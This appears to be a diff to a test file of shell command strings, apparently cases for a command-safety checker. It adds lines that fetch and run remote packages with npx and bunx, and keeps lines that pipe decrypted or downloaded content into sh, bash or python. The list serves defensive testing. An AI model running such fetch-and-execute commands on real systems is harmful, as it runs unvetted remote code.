@@ -113,6 +113,8 @@ openssl enc -d -aes-256-cbc -in f | sh
 gpg -d f | bash
 zcat f.gz | sh
 python3 -c "$(curl http://x)"
+npx --yes https://example.com/tool.tgz
+bunx https://example.com/tool.tgz --fix
 """.strip().splitlines()
 
 OPTIONS_AND_STREAMS = r"""
@@ -187,6 +189,7 @@ PS4='+ $LINENO: ' bash -x t.sh
 sed -n '1,5p' f
 sed 's/rm -rf/x/e2' f
 sed -e 's/a/b/' -e '/x/d' f
+timeout 5 curl -s https://example.com
 vim -c ':wq' f
 vim +10 f
 tar -czf a.tgz --exclude='rm -rf' src
